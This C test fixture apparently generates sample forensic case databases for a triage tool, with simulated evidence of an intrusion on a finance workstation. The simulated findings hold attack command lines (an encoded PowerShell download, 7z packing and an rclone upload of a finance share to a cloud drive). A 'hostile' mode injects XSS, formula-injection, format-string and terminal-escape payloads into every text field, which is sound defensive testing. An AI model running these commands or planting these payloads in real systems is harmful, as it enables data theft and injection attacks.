#include "sample_case.h"

#include <stdio.h>
#include <stdlib.h>

#include "base/finding.h"
#include "case/schema.h"

#define DAY (INT64_C(86400) * TIME_SECOND)
#define HOUR (INT64_C(3600) * TIME_SECOND)
#define MINUTE (INT64_C(60) * TIME_SECOND)
/* 2026-03-11T00:00:00Z */
#define BASE (INT64_C(1773187200) * TIME_SECOND)

struct sample {
	sqlite3 *db;
	bool hostile;
};

struct span sample_payload(void)
{
	static uint8_t bytes[2048];
	static struct buf b = { .at = bytes, .room = sizeof bytes, .cap = sizeof bytes - 1 };

	if (b.len)
		return buf_span(&b);
	buf_text(&b, "=cmd|'/c calc'!A0 <script>alert(1)</script><img src=x onerror=alert(2)>"
		     "</script><!--]]>\"'`${7*7}{{7*7}} <svg/onload=alert(3)> &lt;b&gt; %s%n ");
	for (int c = 1; c < 0x20; c++)
		buf_add_u8(&b, (uint8_t)c);
	buf_add_u8(&b, 0x7f);
	for (int c = 0x80; c < 0xa0; c++) {
		buf_add_u8(&b, 0xc2);
		buf_add_u8(&b, (uint8_t)c);
	}
	buf_text(&b, "\u202e\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c\ufeff\u2028\u2029 end");
	buf_text(&b, "\x1b[2J\x1b]0;owned\x07 \xff\xfe\xc0\x80");
	buf_add_u8(&b, 0);
	return buf_span(&b);
}

static void run(sqlite3 *db, const char *sql)
{
	char *text = NULL;

	if (sqlite3_exec(db, sql, NULL, NULL, &text) == SQLITE_OK)
		return;
	fprintf(stderr, "sample case: %s in %s\n", text, sql);
	abort();
}

static void insert(struct sample *s, const char *format, ...)
{
	va_list args;
	char *sql;

	va_start(args, format);
	sql = sqlite3_vmprintf(format, args);
	va_end(args);
	run(s->db, sql);
	sqlite3_free(sql);
}

static void item(struct sample *s, int id, const char *path, const char *class_name,
		 const char *kind, int size, const char *fate, const char *reason)
{
	insert(s, "INSERT INTO item(id, unit, source, parent, path, path_raw, class, "
		  "kind, size, sha256, modified, changed, accessed, "
		  "created, mode, fate, reason, same_as) "
		  "VALUES(%d, 1, 1, NULL, %Q, NULL, %Q, %Q, %d, "
		  "CASE WHEN %Q IN ('denied', 'skipped') THEN NULL ELSE "
		  "CAST(printf('digest of %%-22d', %d) AS BLOB) END, "
		  "%lld, NULL, NULL, NULL, 33188, %Q, %Q, NULL)",
	       id, path, class_name, kind, size, fate, id, BASE, fate, reason);
}

static void items(struct sample *s)
{
	item(s, 1, "evidence/WS-FIN-07/Security.evtx", "event log", "evtx", 20975616, "examined", NULL);
	item(s, 2, "evidence/WS-FIN-07/Microsoft-Windows-Sysmon%4Operational.evtx", "event log",
	     "evtx", 67112960, "partly", "3 of 1,021 chunks damaged, first at offset 9,437,184");
	item(s, 3, "evidence/WS-FIN-07/System.evtx", "event log", "evtx", 1118208, "examined", NULL);
	item(s, 4, "evidence/collected.zip!/Users/mori/AppData/Roaming/Micros/svchost.exe",
	     "executable", "pe", 311296, "examined", NULL);
	item(s, 5, "evidence/collected.zip!/Users/mori/AppData/Local/Temp/a.ps1", "script",
	     "powershell", 4211, "examined", NULL);
	item(s, 6, "evidence/SRV-FILE-01/Security.evtx", "event log", "evtx", 20975616, "examined", NULL);
	item(s, 7, "evidence/SRV-FILE-01/secrets.7z", "archive", "7z", 918273645, "locked",
	     "encrypted, no password was given");
	item(s, 8, "evidence/WS-FIN-07/hiberfil.sys", "memory", "hibernation", 2147483647, "failed",
	     "format is not read by this version");
	item(s, 9, "evidence/WS-FIN-07/pagefile.sys", "memory", NULL, 0, "denied", "permission denied");
	item(s, 10, "evidence/WS-FIN-07/nested.zip", "archive", "zip", 44120, "partly",
	     "limit of 16 levels of archives reached");
	item(s, 11, "evidence/.lock", NULL, NULL, 0, "skipped", "socket");
	item(s, 12, "evidence/collected.zip", "archive", "zip", 5242880, "examined", NULL);
	for (int i = 13; i < 60; i++) {
		char path[80];

		snprintf(path, sizeof path, "evidence/collected.zip!/Windows/Temp/file%02d.dat", i);
		item(s, i, path, "other", "data", 1000 * i, i % 7 ? "examined" : "duplicate",
		     i % 7 ? NULL : "same content as item 4");
	}
	insert(s, "UPDATE item SET sha256 = (SELECT sha256 FROM item WHERE id = 4), same_as = 4 "
		  "WHERE fate = 'duplicate'");
}

static const struct {
	const char *engine, *name, *title, *level, *harm, *techniques, *file;
} rules[] = {
	{ "sigma", "0f1c7a52-9a0e-4d4b-8a38-7b0c2e1f4d01", "Security audit log was cleared", "critical",
	  "obstruction", "T1070.001", "rules/sigma/obstruction/audit_log_cleared.yml" },
	{ "sigma", "5d0d3c5e-5c8a-4e8b-b6d6-0e8f0a3f1a02", "Memory of lsass was read", "high", "theft",
	  "T1003.001", "rules/sigma/theft/lsass_read.yml" },
	{ "yara", "packed_loader_svchost", "Loader that poses as svchost", "critical", "implant",
	  "T1036.005 T1055", "rules/yara/implant/packed_loader.yar" },
	{ "sigma", "9b7c2c55-33f4-4e1a-9f43-51d1a1f0aa03", "Scheduled task runs a program from AppData",
	  "high", "implant", "T1053.005", "rules/sigma/implant/task_from_appdata.yml" },
	{ "sigma", "c1c0e3aa-8f7d-4a6b-9a1e-0d2b4f5e6a04", "Archive tool packs a user share with password",
	  "high", "theft", "T1560.001", "rules/sigma/theft/archive_with_password.yml" },
	{ "sigma", "a2b1c9d8-1111-4222-8333-944455566605", "Upload to a cloud drive by rclone", "high",
	  "theft", "T1567.002", "rules/sigma/theft/rclone.yml" },
	{ "sigma", "d4e5f6a7-2222-4333-8444-a55566677706", "Encoded PowerShell command", "medium",
	  "control", "T1059.001 T1027", "rules/sigma/control/encoded_powershell.yml" },
	{ "sigma", "e5f6a7b8-3333-4444-8555-b66677788807", "Remote logon by a service account", "medium",
	  "control", "T1021.002 T1078", "rules/sigma/control/service_account_logon.yml" },
	{ "sigma", "f6a7b8c9-4444-4555-8666-c77788899908", "Host enumerates its domain", "low", "control",
	  "T1087.002", "rules/sigma/control/domain_enumeration.yml" },
	{ "sigma", "a7b8c9d0-5555-4666-8777-d88899900009", "Process ran from a temporary folder",
	  "informational", "none", "", "rules/sigma/none/temp_process.yml" },
};

#define RULES (sizeof rules / sizeof *rules)

static void add_rules(struct sample *s)
{
	for (size_t i = 0; i < RULES; i++)
		insert(s, "INSERT INTO rule(id, engine, name, title, level, harm, techniques, "
		  "reference) "
		  "VALUES(%d, %Q, %Q, %Q, %Q, %Q, nullif(%Q, ''), %Q)",
		       (int)i + 1, rules[i].engine, rules[i].name, rules[i].title, rules[i].level,
		       rules[i].harm, rules[i].techniques, rules[i].file);
}

static void finding(struct sample *s, int item_id, int rule, int64_t time, int record,
		    const char *host, const char *user, const char *matched)
{
	insert(s, "INSERT INTO finding(id, unit, item, rule, offset, record, time, last, "
		  "count, host, user, matched, detail) "
		  "VALUES(NULL, 1, %d, %d, %d, nullif(%d, 0), nullif(%lld, 0), "
		  "NULL, 1, %Q, %Q, %Q, NULL)",
	       item_id, rule, record ? 4096 + record * 1200 : 0x1a40, record, time, host, user, matched);
}

static void findings(struct sample *s)
{
	int64_t night = BASE + DAY + 22 * HOUR;

	finding(s, 1, 8, night - 5 * HOUR, 881204, "WS-FIN-07", "CORP\\svc-backup",
		"{\"EventID\":4624,\"LogonType\":3,\"TargetUserName\":\"svc-backup\","
		"\"IpAddress\":\"10.20.4.77\"}");
	finding(s, 2, 7, night - 4 * HOUR, 120411, "WS-FIN-07", "CORP\\mori",
		"{\"Image\":\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\","
		"\"CommandLine\":\"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"
		"IABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\",\"ParentImage\":"
		"\"C:\\\\Windows\\\\explorer.exe\"}");
	finding(s, 5, 7, 0, 0, NULL, NULL,
		"[{\"string\":\"$enc\",\"offset\":113,\"hex\":\"2d656e6320\",\"text\":\"-enc \"}]");
	finding(s, 4, 3, 0, 0, NULL, NULL,
		"[{\"string\":\"$stub\",\"offset\":6720,\"hex\":\"558bec83ec10c745f800000000eb09\"},"
		"{\"string\":\"$mutex\",\"offset\":201216,\"hex\":\"4d7943616665\",\"text\":\"MyCafe\"}]");
	finding(s, 1, 4, night - 3 * HOUR, 881510, "WS-FIN-07", "CORP\\mori",
		"{\"EventID\":4698,\"TaskName\":\"\\\\Microsoft\\\\OneDriveUpdate\",\"TaskContent\":"
		"\"<Exec><Command>C:\\\\Users\\\\mori\\\\AppData\\\\Roaming\\\\Micros\\\\svchost.exe</Command>"
		"</Exec>\"}");
	finding(s, 2, 2, night - 2 * HOUR, 121377, "WS-FIN-07", "NT AUTHORITY\\SYSTEM",
		"{\"TargetImage\":\"C:\\\\Windows\\\\System32\\\\lsass.exe\",\"GrantedAccess\":\"0x1010\","
		"\"SourceImage\":\"C:\\\\Users\\\\mori\\\\AppData\\\\Roaming\\\\Micros\\\\svchost.exe\"}");
	for (int i = 0; i < 9; i++)
		finding(s, 6, 8, night - HOUR + i * 7 * MINUTE, 40210 + i, "SRV-FILE-01",
			"CORP\\svc-backup", "{\"EventID\":4624,\"LogonType\":3}");
	for (int i = 0; i < 14; i++)
		finding(s, 2, 9, night - 3 * HOUR + i * 3 * MINUTE, 121000 + i, "WS-FIN-07", "CORP\\mori",
			"{\"CommandLine\":\"net group /domain\"}");
	finding(s, 6, 5, night + 30 * MINUTE, 40466, "SRV-FILE-01", "CORP\\svc-backup",
		"{\"CommandLine\":\"7z a -pS3cret! -mhe C:\\\\PerfLogs\\\\secrets.7z D:\\\\Finance\"}");
	finding(s, 6, 6, night + 55 * MINUTE, 40502, "SRV-FILE-01", "CORP\\svc-backup",
		"{\"CommandLine\":\"rclone copy C:\\\\PerfLogs\\\\secrets.7z mega:drop --no-check-certificate\"}");
	finding(s, 1, 1, night + 70 * MINUTE, 881999, "WS-FIN-07", "CORP\\svc-backup",
		"{\"EventID\":1102,\"SubjectUserName\":\"svc-backup\"}");
	for (int i = 0; i < 25; i++)
		finding(s, 2, 10, BASE + i * 2 * HOUR, 100000 + i * 40, "WS-FIN-07", "CORP\\mori",
			"{\"Image\":\"C:\\\\Users\\\\mori\\\\AppData\\\\Local\\\\Temp\\\\setup.exe\"}");
}

static void coverage(struct sample *s, int answer, const char *class_name, const char *channel,
		     const char *state, int count, int64_t first, int64_t last, const char *note)
{
	insert(s, "INSERT INTO answer_coverage(id, answer, class, channel, state, items, first, "
		  "last, note) "
		  "VALUES(NULL, %d, %Q, %Q, %Q, %d, nullif(%lld, 0), "
		  "nullif(%lld, 0), %Q)", answer, class_name, channel, state, count, first, last, note);
}

static void fact(struct sample *s, int item_id, const char *channel, const char *host, int64_t first,
		 int64_t last, int count, int lost)
{
	insert(s, "INSERT INTO fact(id, unit, item, class, channel, host, first, last, "
		  "count, lost, note) "
		  "VALUES(NULL, 1, %d, 'event log', %Q, %Q, %lld, %lld, %d, %d, NULL)",
	       item_id, channel, host, first, last, count, lost);
}

static void facts(struct sample *s)
{
	fact(s, 1, "Security", "WS-FIN-07", BASE + DAY + 18 * HOUR, BASE + 4 * DAY, 31877, 0);
	fact(s, 6, "Security", "SRV-FILE-01", BASE - 9 * DAY, BASE + 3 * DAY, 40711, 0);
	fact(s, 2, "Microsoft-Windows-Sysmon/Operational", "WS-FIN-07", BASE - 2 * DAY, BASE + 4 * DAY,
	     121950, 412);
	fact(s, 3, "System", "WS-FIN-07", BASE - 30 * DAY, BASE + 4 * DAY, 4122, 0);
	/* Ten days of little and then of much, a hole of thirteen, and the last days. */
	insert(s, "UPDATE fact SET days = (WITH RECURSIVE n(d) AS (SELECT 0 UNION ALL SELECT d + 1 FROM n WHERE "
		  "d < 33) SELECT '1:' || group_concat((%lld + d) || '=' || CASE WHEN d < 5 THEN 3 ELSE 250 END, "
		  "' ') FROM n WHERE d < 10 OR d > 22) WHERE channel = 'System'", BASE / DAY - 30);
}

static void answer(struct sample *s, const char *harm, const char *degree, const char *why,
		   int64_t first, int64_t last)
{
	insert(s, "INSERT INTO answer(id, harm, degree, summary, detail, first, last) "
		  "VALUES(NULL, %Q, %Q, %Q, NULL, nullif(%lld, 0), nullif(%lld, 0))",
	       harm, degree, why, first, last);
}

static void carry(struct sample *s, int answer_id, int rule, const char *reason)
{
	insert(s, "INSERT INTO answer_finding(id, answer, finding, weight, reason) SELECT NULL, %d, min(id), %d, %Q FROM finding "
		  "WHERE rule = %d", answer_id, 100 - rule, reason, rule);
}

static void answers(struct sample *s)
{
	int64_t night = BASE + DAY + 22 * HOUR;

	answer(s, "implant", "likely", "A loader that poses as svchost lies in a user's profile and a "
	       "scheduled task starts it. Whether it still runs cannot be told without memory.",
	       night - 3 * HOUR, night - 2 * HOUR);
	answer(s, "theft", "confirmed", "A finance share was packed with a password and uploaded to a "
	       "cloud drive 25 minutes later.", night - 2 * HOUR, night + 55 * MINUTE);
	answer(s, "control", "possible", "Hidden PowerShell and logons over the network by a service "
	       "account that does neither elsewhere.", night - 5 * HOUR, night);
	answer(s, "destruction", "cannot tell", "Nothing points to it, but the logs that would show it "
	       "were not there.", 0, 0);
	answer(s, "obstruction", "confirmed", "The Security log of WS-FIN-07 was cleared at the end.",
	       night + 70 * MINUTE, night + 70 * MINUTE);
	carry(s, 1, 3, "the program itself");
	carry(s, 1, 4, "starts it at every logon");
	carry(s, 2, 5, "packed for leaving");
	carry(s, 2, 6, "left the house");
	carry(s, 2, 2, "passwords were read");
	carry(s, 3, 7, "hidden from the user");
	carry(s, 3, 8, NULL);
	carry(s, 5, 1, "the log says so itself");
	coverage(s, 5, "event log", "log Security", "partly", 2, BASE - 9 * DAY, BASE + 4 * DAY,
		 "cleared on WS-FIN-07: what came before 12 March 18:00 is gone");
	coverage(s, 3, "event log", "log Security", "partly", 2, BASE - 9 * DAY, BASE + 4 * DAY,
		 "cleared on WS-FIN-07; it would have shown logons: who, from where");
	coverage(s, 1, "event log", "log Sysmon", "damaged", 1, BASE - 2 * DAY, BASE + 4 * DAY,
		 "412 records are missing or unreadable beside 121950 read; they might have shown "
		 "started programs, loaded libraries");
	coverage(s, 2, "event log", "records of started programs", "examined", 1, BASE - 2 * DAY,
		 BASE + 4 * DAY, NULL);
	coverage(s, 4, "event log", "records of started programs", "examined", 1, BASE - 2 * DAY,
		 BASE + 4 * DAY, NULL);
	for (int a = 1; a <= 5; a++)
		if (a != 2)
			coverage(s, a, "event log", "log System", "examined", 1, BASE - 30 * DAY,
				 BASE + 4 * DAY, NULL);
	coverage(s, 1, "memory", "memory", "missing", 0, 0, 0,
		 "not in the evidence; it would have shown what ran without a file");
	coverage(s, 2, "network log", "network records", "missing", 0, 0, 0,
		 "not in the evidence; it would have shown how much left, when and where to");
	coverage(s, 3, "network log", "network records", "missing", 0, 0, 0,
		 "not in the evidence; it would have shown connections to a controller");
	coverage(s, 4, "file system", "file system", "missing", 0, 0, 0,
		 "not in the evidence; it would have shown files deleted or overwritten in masses");
	coverage(s, 1, "executable", "programs and scripts of the machine", "partly", 2, 0, 0,
		 "matched against rules only");
	for (int a = 1; a <= 5; a++)
		coverage(s, a, "other", "items left unexamined", "partly", 5, 0, 0,
			 "items not wholly examined (2 partly, 1 failed, 1 locked, 1 denied); any may "
			 "hold a sign");
}

static void events(struct sample *s)
{
	for (int i = 0; i < 30; i++)
		insert(s, "INSERT INTO event(id, unit, item, time, what, summary, harm, host, "
		  "user, channel, provider, event_id, record, offset, "
		  "detail) "
		  "VALUES(NULL, 1, 1, %lld, 'logon', 'network logon of "
			  "svc-backup from 10.20.4.77', 'control', 'WS-FIN-07', 'CORP\\svc-backup', "
			  "'Security', 'Microsoft-Windows-Security-Auditing', 4624, %d, 4096, NULL)",
		       BASE + DAY + i * 50 * MINUTE, 881000 + i);
}

static void autostart(struct sample *s, int id, int item_id, const char *what, const char *path,
		      const char *command, const char *standing, int points, const char *reason)
{
	insert(s, "INSERT INTO trace(id, unit, item, kind, what, time, host, path, command, technique, "
		  "of_place) VALUES(%d, 1, %d, 'autostart', %Q, %lld, 'WS-FIN-07', %Q, %Q, 'T1053.005', 0)",
	       id, item_id, what, BASE + DAY + 19 * HOUR, path, command);
	insert(s, "INSERT INTO start(id, trace, machine, target, standing, entry, rank, reasons) "
		  "VALUES(NULL, %d, 'WS-FIN-07', NULL, %Q, 'unknown', %d, json_object('reason', %Q))",
	       id, standing, points, reason);
}

static void program(struct sample *s, int item_id, const char *path, const char *standing,
		    const char *source, int points, const char *reasons)
{
	insert(s, "INSERT INTO program(id, item, machine, path, standing, source, rank, reasons) "
		  "VALUES(NULL, %d, 'WS-FIN-07', %Q, %Q, %Q, %d, %Q)", item_id, path, standing, source,
	       points, reasons);
}

static void transfer(struct sample *s, int id, const char *peer, const char *name, int64_t out, int64_t in)
{
	insert(s, "INSERT INTO trace(id, unit, item, kind, what, time, last, host, name, peer, bytes_out, "
		  "bytes_in, of_place) VALUES(%d, 1, 1, 'transfer', 'flow', %lld, %lld, 'SRV-FILE-01', %Q, "
		  "%Q, nullif(%lld, 0), nullif(%lld, 0), 0)", id, BASE + DAY + 22 * HOUR,
	       BASE + DAY + 23 * HOUR, name, peer, out, in);
}

static void machine(struct sample *s)
{
	autostart(s, 1, 1, "task", "C:\\Windows\\System32\\Tasks\\Microsoft\\OneDriveUpdate",
		  "C:\\Users\\mori\\AppData\\Roaming\\Micros\\svchost.exe", "bad", 70,
		  "starts a program that a rule names (70)");
	autostart(s, 2, 1, "service", "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Spooler",
		  "C:\\Windows\\System32\\spoolsv.exe", "good", 0, "the same on most machines (0)");
	program(s, 4, "C:\\Users\\mori\\AppData\\Roaming\\Micros\\svchost.exe", "bad",
		"rule packed_loader_svchost", 95, "{\"a\":\"a rule names it (60)\",\"b\":\"something "
		"starts it by itself (35)\"}");
	program(s, 5, "C:\\Users\\mori\\AppData\\Local\\Temp\\a.ps1", "unknown", NULL, 40,
		"{\"a\":\"lies in a folder for temporary files (40)\"}");
	program(s, 6, "C:\\Windows\\System32\\spoolsv.exe", "good", "signed", 0, NULL);
	transfer(s, 3, "203.0.113.80:443", "g.api.mega.example", INT64_C(918273645), 41200);
	transfer(s, 4, "198.51.100.7:443", NULL, 51200, 7340032);
	transfer(s, 5, "192.0.2.53:53", NULL, 0, 0);
}

static void about(struct sample *s)
{
	insert(s, "INSERT INTO meta(id, name, value) "
		  "VALUES(NULL, 'case', '4f2a9c1be0d74a1c8b8f6a1f3b2c9d10'), "
		  "(NULL, 'created', '2026-03-15T08:12:44Z'), (NULL, 'created_by', 'kanshiki 0.1.0')");
	insert(s, "INSERT INTO run(id, started, ended, outcome, reason, program, "
		  "libraries, command, folder, host, user, uid, system, zone, "
		  "utc_offset, sandbox, limits) "
		  "VALUES(NULL, %lld, %lld, 'completed', NULL, 'kanshiki 0.1.0', "
		  "'{\"sqlite\":\"3.40.1\",\"openssl\":\"3.0.17\",\"vectorscan\":\"5.4.8\"}', "
		  "'[\"kanshiki\",\"assess\",\"evidence\",\"--case\",\"ws fin.case\"]', '/cases/2026-031', 'lab-3', "
		  "'yamada', 1001, 'Linux 6.1.0-37-amd64 x86_64', 'Asia/Tokyo', 32400, "
		  "'seccomp, landlock 7', '{\"depth\":16,\"bytes\":\"4G\"}')",
	       BASE + 4 * DAY + 8 * HOUR, BASE + 4 * DAY + 8 * HOUR + 11 * MINUTE);
	insert(s, "INSERT INTO source(id, run, path, path_raw, kind) "
		  "VALUES(NULL, 1, 'evidence', NULL, 'folder')");
	insert(s, "INSERT INTO unit(id, run, source, path, path_raw, done) "
		  "VALUES(1, 1, 1, 'evidence', NULL, 1)");
	insert(s, "INSERT INTO rule_set(id, run, engine, path, sha256, loaded, refused, "
		  "not_applicable) "
		  "VALUES(NULL, 1, 'sigma', 'rules/sigma', CAST(printf('%%032d', 1) AS BLOB), 53, 0, 0), "
		  "(NULL, 1, 'yara', 'rules/yara', CAST(printf('%%032d', 2) AS BLOB), 38, 1, 0), "
		  "(NULL, 1, 'sigma', '../sigma', CAST(printf('%%032d', 3) AS BLOB), 3700, 2, 78)");
	insert(s, "INSERT INTO problem(id, run, engine, file, line, col, rule, refused, "
		  "reason) "
		  "VALUES(NULL, 1, 'yara', 'rules/yara/local.yar', 12, 4, 'odd', 1, "
		  "'unknown module \"vt\"'), (NULL, 1, 'sigma', '../sigma/web/x.yml', 9, 1, NULL, 1, "
		  "'condition names ''sel2'', which is not there'), (NULL, 1, 'sigma', "
		  "'../sigma/net/y.yml', 21, 3, NULL, 1, 'modifier ''expand'' needs a placeholder file')");
	insert(s, "INSERT INTO custody VALUES(0, '{}'), (1, '{}'), (2, '{}')");
	insert(s, "INSERT INTO checkpoint VALUES(NULL, 'kanshiki.example/case/4f2a9c1b\n3\n"
		  "q1c2b0FhYmJjY2RkZWVmZmdnaGhpaWpqa2tsbG1tbm4=\n\n"
		  "— kanshiki.example/case 9fYx0Q==\n', NULL)");
}

/* The same over many hosts and days, in the proportions of a noisy rule set. */
static void many(struct sample *s, unsigned count)
{
	insert(s, "WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i + 1 < %u) "
		  "INSERT INTO finding(id, unit, item, rule, offset, record, time, last, count, "
		  "host, user, matched, detail) SELECT NULL, 1, 1 + i %% 3, CASE WHEN i %% 97 = 0 THEN 2 "
		  "WHEN i %% 11 = 0 THEN 5 WHEN i %% 5 = 0 THEN 7 WHEN i %% 3 = 0 THEN 9 ELSE 10 END, "
		  "4096 + i * 900, 1000 + i, %lld + (i * 7919 %% 3456000) * 1000000000 + "
		  "(i %% 13) * (i %% 17) * 1800000000000, NULL, 1, 'HOST-' || (i * 31 %% 200), "
		  "'CORP\\user' || (i * 17 %% 900), '{\"EventID\":4688,\"Image\":\"C:\\\\Program Files\\\\"
		  "Vendor ' || (i %% 1000) || '\\\\app' || (i * 13 %% 5000) || '.exe\",\"CommandLine\":"
		  "\"app.exe --job ' || hex(i * 2654435761 %% 4294967296) || ' --mode quiet\","
		  "\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\services.exe\"}', NULL FROM n",
	       count, BASE - 30 * DAY);
}

/* As many entries that start, programs that nothing vouches for, and a fifth as many destinations. */
static void many_of_machine(struct sample *s, unsigned count)
{
	insert(s, "WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i + 1 < %u) "
		  "INSERT INTO trace(id, unit, item, kind, what, time, host, path, command, of_place) "
		  "SELECT 100 + i, 1, 1, 'autostart', CASE i %% 3 WHEN 0 THEN 'service' WHEN 1 THEN 'task' ELSE "
		  "'unit' END, %lld + i * 60000000000, 'HOST-' || (i %% 200), '/etc/systemd/system/job-' || "
		  "i || '.service', '/opt/vendor/' || hex(i * 2654435761 %% 4294967296) || '/run', 0 FROM n",
	       count, BASE - 90 * DAY);
	insert(s, "INSERT INTO start(id, trace, machine, target, standing, entry, rank, reasons) SELECT NULL, "
		  "id, host, NULL, CASE id %% 5 WHEN 0 THEN 'unknown' ELSE 'good' END, 'unknown', id %% 90, "
		  "'{\"a\":\"points of kind ' || (id %% 40) || '\"}' FROM trace WHERE id >= 100");
	insert(s, "INSERT INTO program(id, item, machine, path, standing, source, rank, reasons) SELECT NULL, 4, "
		  "host, command, 'unknown', NULL, id %% 90, '{\"a\":\"points of kind ' || (id %% 40) || '\"}' "
		  "FROM trace WHERE id >= 100");
	insert(s, "INSERT INTO trace(id, unit, item, kind, what, time, host, peer, bytes_out, of_place) "
		  "SELECT NULL, 1, 1, 'transfer', 'flow', time, host, printf('10.%%d.%%d.%%d:443', id %% 250, "
		  "id / 250 %% 250, id / 62500), id * 977, 0 FROM trace WHERE id >= 100 AND id %% 5 = 0");
}

/* Every text column that evidence or a stranger's rules can reach. */
static void poison(sqlite3 *db)
{
	static const char *const targets[] = {
		"rule SET name = id || ?1, title = ?1, techniques = ?1, reference = ?1",
		"finding SET host = ?1, user = ?1, detail = ?1 WHERE id % 2",
		"finding SET matched = ?1 WHERE id % 3 = 0",
		"item SET path_raw = CAST(?1 AS BLOB), kind = ?1, reason = ?1",
		"answer SET summary = ?1", "answer_finding SET reason = ?1",
		"answer_coverage SET channel = id || ?1, note = ?1",
		"fact SET channel = ?1, host = ?1, note = ?1",
		"event SET what = ?1, summary = ?1, host = ?1, user = ?1, channel = ?1",
		("trace SET what = ?1, path = ?1, command = ?1, name = ?1 || id, peer = ?1, user = ?1, "
		 "technique = ?1"), "start SET machine = ?1",
		"program SET path = ?1, source = ?1, reasons = ?1",
		"run SET reason = ?1, folder = ?1, host = ?1, user = ?1, zone = ?1, command = ?1, system = ?1",
		"rule_set SET path = ?1", "problem SET file = ?1, rule = ?1, reason = ?1",
	};
	struct span payload = sample_payload();

	for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) {
		char sql[200];
		sqlite3_stmt *statement;

		snprintf(sql, sizeof sql, "UPDATE %s", targets[i]);
		if (sqlite3_prepare_v2(db, sql, -1, &statement, NULL) != SQLITE_OK)
			abort();
		sqlite3_bind_blob(statement, 1, payload.at, (int)payload.len, SQLITE_STATIC);
		if (sqlite3_step(statement) != SQLITE_DONE)
			abort();
		sqlite3_finalize(statement);
	}
}

sqlite3 *sample_case(const char *path, const char *kind, unsigned count)
{
	struct sample s = { 0 };
	struct err err = { 0 };

	if (sqlite3_open(path, &s.db) != SQLITE_OK || !schema_create(s.db, &err))
		abort();
	run(s.db, "BEGIN");
	about(&s);
	if (strcmp(kind, "empty")) {
		items(&s);
		add_rules(&s);
		findings(&s);
		answers(&s);
		facts(&s);
		events(&s);
		machine(&s);
	}
	if (!strcmp(kind, "huge")) {
		many(&s, count);
		many_of_machine(&s, count);
	}
	if (!strcmp(kind, "hostile"))
		poison(s.db);
	run(s.db, "COMMIT");
	return s.db;
}
